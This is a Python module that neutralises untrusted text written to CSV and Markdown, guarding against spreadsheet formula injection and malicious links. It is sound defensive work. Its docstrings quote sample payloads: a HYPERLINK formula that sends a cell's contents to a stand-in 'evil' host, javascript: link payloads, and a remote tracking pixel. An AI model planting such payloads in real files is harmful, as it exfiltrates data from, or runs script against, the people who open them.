r"""Escaping untrusted text for the files people open: CSV (spreadsheets) and Markdown.

Ids, metadata, rubric text, rationales and LLM answers are untrusted: they come from input
files or from a model. Two helpers make them inert wherever calib writes them for people:

* **CSV** -- every CSV calib writes goes through :func:`csv_safe_frame` (directly or via
  :func:`write_csv` / :func:`csv_text`). A text cell that starts with ``=``, ``+``, ``-``,
  ``@``, a tab or a carriage return is run as a formula by Excel, LibreOffice and Google
  Sheets ("CSV injection", OWASP: https://owasp.org/www-community/attacks/CSV_Injection), e.g.
  ``=HYPERLINK("http://evil/?"&A1, "click")``. Such cells get a leading apostrophe, which the
  spreadsheet shows as plain text; numbers (numeric columns, and numbers in mixed columns) are
  left alone. Column names are treated the same way. Parquet files keep the raw values.
* **Markdown** -- :func:`md_escape` HTML-escapes (most renderers pass raw HTML through) and
  backslash-escapes every Markdown metacharacter, so ``[x](javascript:...)``,
  ``![](http://host/pixel.png)``, ``<http://...>``, emphasis, headings and table pipes from
  untrusted text render as the literal characters. Bare URLs and e-mail addresses are defused
  too (``http\://``, ``www\.``, ``a\@b``) so GitHub-flavoured Markdown does not autolink them.
"""

from __future__ import annotations

import html
import io
import math
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa

__all__ = [
    "FORMULA_START",
    "csv_cell",
    "csv_safe_arrow",
    "csv_safe_frame",
    "csv_text",
    "md_code",
    "md_escape",
    "write_csv",
]

#: First characters that make a spreadsheet evaluate a cell (OWASP CSV injection).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """Neutralise one CSV cell: text a spreadsheet would run as a formula gets a leading ``'``.

    Examples
    --------
    >>> csv_cell("=HYPERLINK(1)"), csv_cell("-0.5 bias"), csv_cell(-0.5), csv_cell("ok")
    ("'=HYPERLINK(1)", "'-0.5 bias", -0.5, 'ok')
    """
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and column names are neutralised by :func:`csv_cell`.

    Vectorised over text columns (``object`` and string dtypes); numeric, boolean and
    datetime columns are returned unchanged. The input is not modified.

    Examples
    --------
    >>> csv_safe_frame(pd.DataFrame({"id": ["=1+1", "r2"], "x": [-1.0, 2.0]}))["id"].tolist()
    ["'=1+1", 'r2']
    """
    out = df.copy()
    for i in range(out.shape[1]):
        s = out.iloc[:, i]
        if isinstance(s.dtype, pd.CategoricalDtype):
            s = s.astype(object)
        if s.dtype == object:  # mixed cells: only str values are touched
            if s.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_START)).any():
                out.isetitem(i, s.map(csv_cell))
        elif pd.api.types.is_string_dtype(s.dtype):  # vectorised, dtype kept
            mask = s.str.startswith(FORMULA_START).fillna(False).astype(bool)
            if mask.any():
                out.isetitem(i, s.where(~mask, "'" + s))
    out.columns = [csv_cell(str(c)) for c in out.columns]
    return out


def csv_safe_arrow(table: pa.Table) -> pa.Table:
    """:func:`csv_safe_frame` for an Arrow table (for pyarrow's fast CSV writer).

    Text columns are neutralised with Arrow compute kernels (a regex match and a conditional
    prefix, in C++), so millions of rows cost little; other columns are unchanged.

    Examples
    --------
    >>> t = csv_safe_arrow(pa.table({"id": ["=1", "r2", None], "x": [1, 2, 3]}))
    >>> t.column("id").to_pylist(), t.column_names
    (["'=1", 'r2', None], ['id', 'x'])
    """
    import pyarrow.compute as pc

    cols = []
    for col in table.columns:
        if pa.types.is_string(col.type) or pa.types.is_large_string(col.type):
            first = pc.utf8_slice_codeunits(col, 0, 1)
            mask = pc.is_in(first, value_set=pa.array(FORMULA_START, first.type))
            mask = pc.fill_null(mask, False)
            if pc.any(mask).as_py():
                quote, empty = pa.scalar("'", col.type), pa.scalar("", col.type)
                col = pc.if_else(mask, pc.binary_join_element_wise(quote, col, empty), col)
        cols.append(col)
    names = [csv_cell(str(n)) for n in table.column_names]
    return pa.table(cols, names=names)


def write_csv(df: pd.DataFrame, path: str | Path, **to_csv_kwargs: Any) -> Path:
    """Write ``df`` as UTF-8 CSV after :func:`csv_safe_frame` (``index=False`` by default)."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    kwargs = {"index": False, "lineterminator": "\n", **to_csv_kwargs}
    csv_safe_frame(df).to_csv(path, **kwargs)
    return path


def csv_text(df: pd.DataFrame, **to_csv_kwargs: Any) -> str:
    """``df`` as CSV text (for stdout) after :func:`csv_safe_frame`."""
    buf = io.StringIO()
    kwargs = {"index": False, "lineterminator": "\n", **to_csv_kwargs}
    csv_safe_frame(df).to_csv(buf, **kwargs)
    return buf.getvalue()


# ASCII punctuation that can open or close inline markup anywhere in a line (links, images,
# emphasis, code, strike-through, HTML, autolinks, table cells): always backslash-escaped.
_MD_INLINE = re.compile(r"([\\`*_{}\[\]()!|~:<>@])")
# Characters that only make markup at the start of a line (lists, headings, quotes, breaks):
# escaped there. Text is one line after md_escape, so that is the start of the text.
_MD_LINE_START = re.compile(
    r"^\s*(?:[-+](?=\s|$)|#{1,6}(?=\s|$)|[-=]+\s*$|(?P<num>\d{1,9})(?=[.)](?:\s|$)))"
)
_WWW = re.compile(r"(?i)\b(www)\.")


def md_escape(text: Any) -> str:
    r"""Escape untrusted text for a Markdown paragraph or table cell.

    HTML-escapes ``&``, ``<``, ``>``, then backslash-escapes the Markdown metacharacters that
    can make inline markup (``\ ` * _ { } [ ] ( ) ! | ~ : @``), the ``.`` of ``www.`` and a
    list/heading marker at the start of the text, so no link, image, autolink, emphasis, list,
    heading or raw HTML can come out of it; numbers such as ``-0.25`` or ``3.5`` stay
    readable. Newlines become spaces (a cell or list item stays one line). None and NaN give
    an empty string.

    Examples
    --------
    >>> print(md_escape("[x](javascript:alert(1)) ![](http://h/p.png) a|b"))
    \[x\]\(javascript\:alert\(1\)\) \!\[\]\(http\://h/p.png\) a\|b
    >>> print(md_escape("<b>www.evil.com</b> 0.25 -1.5"), md_escape("-0.25"), md_escape("3.5"))
    &lt;b&gt;www\.evil.com&lt;/b&gt; 0.25 -1.5 -0.25 3.5
    >>> print(md_escape("- item"), md_escape("1. first"), md_escape("# title"))
    \- item 1\. first \# title
    """
    if text is None or (isinstance(text, float) and math.isnan(text)):
        return ""
    s = html.escape(str(text), quote=False)
    for sep in ("\r\n", "\r", "\n", "\u2028", "\u2029", "\x85"):
        s = s.replace(sep, " ")
    s = _MD_INLINE.sub(r"\\\1", s)
    s = _WWW.sub(r"\1\\.", s)
    m = _MD_LINE_START.match(s)
    if m:
        # a list marker, heading, thematic break or "1." / "1)": escape its first character
        # (after the digits for an ordered-list number)
        at = m.end("num") if m.group("num") else len(s) - len(s.lstrip())
        s = s[:at] + "\\" + s[at:]
    return s


def md_code(text: Any) -> str:
    """Untrusted text as one Markdown code span (rendered literally: no markup, no links).

    The fence is longer than any run of backticks inside, as CommonMark requires; newlines
    become spaces.

    Examples
    --------
    >>> print(md_code("ml_interview"), md_code("a`b"), md_code("[x](javascript:1)"))
    `ml_interview` ``a`b`` `[x](javascript:1)`
    """
    if text is None or (isinstance(text, float) and math.isnan(text)):
        return "` `"
    s = re.sub(r"[\r\n\u2028\u2029\x85]+", " ", str(text))
    longest = max((len(m) for m in re.findall(r"`+", s)), default=0)
    fence = "`" * (longest + 1)
    pad = (
        " "
        if s.startswith("`")
        or s.endswith("`")
        or (s.startswith(" ") and s.endswith(" ") and s.strip())
        else ""
    )
    return f"{fence}{pad}{s}{pad}{fence}"
